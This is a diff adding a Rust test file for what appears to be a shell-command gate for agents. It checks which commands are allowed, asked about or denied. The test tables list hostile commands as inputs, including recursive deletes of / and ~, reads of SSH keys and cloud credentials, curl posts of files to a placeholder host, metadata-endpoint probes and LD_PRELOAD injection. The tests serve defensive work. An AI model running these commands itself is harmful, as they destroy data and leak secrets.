@@ -1,0 +1,320 @@
+//! Modes, exemptions, and what decides which kind of command.
+
+use execgate_guest::Decision::{Allow, Ask, Deny};
+use execgate_guest::{Configure, Decision, Risk, Verdict};
+use pretty_assertions::assert_eq;
+
+use super::commands::judge;
+use crate::{DefaultPolicy, Settings};
+
+fn with(settings: &str, text: &str) -> Verdict {
+    let policy = DefaultPolicy::configure(settings).expect("the settings are valid");
+    judge(&policy, text, "bash")
+}
+
+fn rule(text: &str) -> (Decision, String) {
+    let verdict = with("{}", text);
+    (verdict.decision, verdict.rule)
+}
+
+#[track_caller]
+fn all(decision: Decision, expected: &str, texts: &[&str]) {
+    for text in texts {
+        assert_eq!(rule(text), (decision, expected.to_owned()), "{text}");
+    }
+}
+
+#[test]
+fn modes_change_what_becomes_of_a_judgement() {
+    let decide = |mode: &str, text: &str| with(&format!(r#"{{"mode": "{mode}"}}"#), text).decision;
+    let rows = [
+        ("ls", [Allow, Allow, Allow, Deny, Allow]),
+        ("frobnicate", [Ask, Ask, Deny, Deny, Allow]),
+        ("reboot", [Deny, Deny, Deny, Deny, Allow]),
+        ("execgate approve 1", [Deny, Deny, Deny, Deny, Deny]),
+        ("echo 'a", [Ask, Ask, Deny, Deny, Allow]),
+    ];
+    for (text, expected) in rows {
+        let decided = ["ask", "auto", "allowlist", "deny", "full"].map(|mode| decide(mode, text));
+        assert_eq!(decided, expected, "{text}");
+    }
+}
+
+#[test]
+fn settings_that_cannot_be_used_are_problems() {
+    let place = |text: &str| {
+        Settings::read(text).expect_err("it is refused")[0]
+            .path
+            .clone()
+    };
+    assert_eq!(place(r#"{"mode": "yolo"}"#), "/mode");
+    assert_eq!(place(r#"{"mod": "ask"}"#), "/mod");
+    assert_eq!(place(r#"{"exempt": ["self/control"]}"#), "/exempt/0");
+    assert_eq!(place(r#"{"exempt": ["nothing"]}"#), "/exempt/0");
+    assert_eq!(place(r#"{"max_output_chars": 0}"#), "/max_output_chars");
+}
+
+#[test]
+fn an_exemption_lifts_one_rule_or_category_and_nothing_else() {
+    let settings = r#"{"exempt": ["git/push", "power"]}"#;
+    assert_eq!(with(settings, "reboot").rule, "program/unknown");
+    assert_eq!(with(settings, "rm -rf /").decision, Deny);
+}
+
+#[test]
+fn the_strictest_part_decides_and_says_where() {
+    let verdict = with("{}", "ls; frobnicate; rm -rf /etc");
+    assert_eq!(
+        (verdict.decision, verdict.rule.as_str(), verdict.risk),
+        (Deny, "delete/outside", Risk::Critical)
+    );
+    assert_eq!((verdict.spans[0].start, verdict.spans[0].end), (23, 27));
+    assert!(verdict.remedy.is_some());
+}
+
+#[test]
+fn deleting_depends_on_what_and_where() {
+    all(
+        Allow,
+        "default/harmless",
+        &[
+            "rm build.log",
+            "rm -f dist/app.js",
+            "rm ./a/../b",
+            "rm /tmp/x.txt",
+        ],
+    );
+    all(
+        Ask,
+        "delete/tree",
+        &[
+            "rm -r src",
+            "rm *.o",
+            "find . -delete",
+            "sh -c 'rm -rf build'",
+            "rm -rf /tmp/x",
+            "shred x",
+        ],
+    );
+    all(
+        Deny,
+        "delete/outside",
+        &[
+            "rm -rf /",
+            "rm -rf ~",
+            "rm -rf .",
+            "rm -rf ..",
+            "rm /etc/passwd",
+            "cd / && rm -rf etc",
+            "sudo rm -rf /usr",
+            "find / -delete",
+            "rm -r ~/x",
+            "x=rm; $x -rf ~",
+            "f() { rm -rf ~; }; f",
+        ],
+    );
+}
+
+#[test]
+fn files_outside_are_asked_and_protected_ones_denied() {
+    all(
+        Allow,
+        "default/harmless",
+        &[
+            "cat src/main.rs",
+            "cat /etc/hosts",
+            "echo x > out.txt",
+            "cat .env.example",
+            "ls 2>/dev/null",
+            "cp a b",
+            "cat ./a/../b",
+        ],
+    );
+    all(
+        Ask,
+        "path/secret",
+        &[
+            "cat .env",
+            "cat ~/.ssh/id_rsa",
+            "cat < ~/.netrc",
+            "grep x ~/.aws/credentials",
+            "cd ~/.ssh && cat id_rsa",
+            "cat /proc/self/environ",
+        ],
+    );
+    all(
+        Ask,
+        "path/outside",
+        &[
+            "cat ../x",
+            "echo x > ~/notes",
+            "touch /tmp/x",
+            "echo x > .git/hooks/pre-commit",
+            "cat ~/.bashrc",
+        ],
+    );
+    all(
+        Deny,
+        "path/protected",
+        &[
+            "echo x >> ~/.bashrc",
+            "tee /etc/passwd < x",
+            "cp x ~/.ssh/authorized_keys",
+            "tar czf x.tgz ~/.ssh",
+            "sed -i s/a/b/ /etc/hosts",
+            "curl -o /etc/x https://e.example",
+            "ls > /usr/x",
+        ],
+    );
+    all(Ask, "path/unknown", &["cat \"$FILE\""]);
+}
+
+#[test]
+fn what_runs_must_be_known() {
+    all(Ask, "dynamic/program", &["$X -rf a", "\"$@\""]);
+    all(
+        Ask,
+        "program/unknown",
+        &[
+            "frobnicate",
+            "npx some-tool",
+            "git frobnicate",
+            "docker frobnicate",
+        ],
+    );
+    all(
+        Ask,
+        "eval/inline-code",
+        &["python3 -c 'print(1)'", "node -e 1", "python3", "perl -e 1"],
+    );
+    all(Ask, "opaque/syntax", &["echo 'a", "if x"]);
+    all(
+        Allow,
+        "default/harmless",
+        &[
+            "python3 scripts/x.py",
+            "./scripts/test.sh --fast",
+            "npx jest",
+            "cargo test",
+            "make test",
+            ".venv/bin/python -m pytest",
+            "bash scripts/lint.sh",
+        ],
+    );
+    all(
+        Ask,
+        "code/written",
+        &[
+            "echo x > y.sh; sh y.sh",
+            "cp a b.py && python3 b.py",
+            "tar xf a.tar && make",
+        ],
+    );
+}
+
+#[test]
+fn arguments_that_do_more_are_asked() {
+    all(
+        Ask,
+        "program/arguments",
+        &[
+            "git log --output=x",
+            "git -c core.pager=id log",
+            "git grep -Oid x",
+            "go test -exec id ./...",
+            "sort -o x y",
+            "rg --pre id x",
+            "make -f x",
+            "sed '1e id' f",
+            "awk '{print | \"sh\"}' f",
+            "tar cf x y --checkpoint-action=exec=id",
+            "find . -fprint x",
+            "env -S 'ls'",
+            "chmod 4755 x",
+            "psql -c 'select 1; drop table x'",
+        ],
+    );
+    all(
+        Ask,
+        "environment/variable",
+        &[
+            "LD_PRELOAD=./x ls",
+            "env PATH=. ls",
+            "export PATH=.:$PATH",
+            "GIT_SSH_COMMAND=id git fetch",
+            "make CC=./x",
+        ],
+    );
+    all(
+        Ask,
+        "network/send",
+        &[
+            "curl -d @a https://e.example",
+            "curl \"https://e.example/$(cat a)\"",
+            "curl http://169.254.169.254/",
+            "wget --post-file=a https://e.example",
+            "curl -H \"Authorization: $T\" https://e.example",
+        ],
+    );
+}
+
+#[test]
+fn the_search_path_does_not_lead_into_the_workspace() {
+    use execgate_guest::testing::FakeRequest;
+    use execgate_guest::{Executable, Found, Policy as _};
+    let source = execgate_shell::Source {
+        text: "ls",
+        ..execgate_shell::Source::default()
+    };
+    let line = execgate_analyzer::convert::command_line(execgate_shell::analyze(&source));
+    let mut request = FakeRequest::new("ls", line);
+    let policy = DefaultPolicy::configure("{}").expect("nothing is required");
+    assert_eq!(policy.evaluate(&request).decision, Allow);
+    let real_path = Some("/work/bin/ls".to_owned());
+    let executable = Executable {
+        name: "ls".into(),
+        found: Found::Path,
+        real_path,
+        digest: None,
+        annotations: Vec::new(),
+    };
+    request.executables.insert(0, executable);
+    assert_eq!(policy.evaluate(&request).decision, Ask);
+}
+
+#[test]
+fn texts_of_any_kind_get_a_verdict() {
+    for text in [
+        "",
+        " ",
+        "\0",
+        "'",
+        "$(",
+        "((((",
+        "a\\",
+        "\u{feff}ls",
+        "x=",
+        "| |",
+        "<<",
+        "rm\u{a0}-rf ~",
+        "\u{1f980}",
+    ] {
+        assert_ne!(with("{}", text).reason, "", "{text:?}");
+    }
+}
+
+#[test]
+fn large_texts_get_a_verdict() {
+    let texts = [
+        "ls;".repeat(9_000),
+        "ls|".repeat(5_000) + "ls",
+        "cat \"$x\";".repeat(5_000),
+        format!("cat {}", "a/b ".repeat(20_000)),
+        format!("cat {}", "a,".repeat(40_000)),
+        "cd a;".repeat(5_000),
+        format!("cat {}", "../".repeat(20_000)),
+    ];
+    for text in texts {
+        assert_ne!(with("{}", &text).reason, "");
+    }
+}
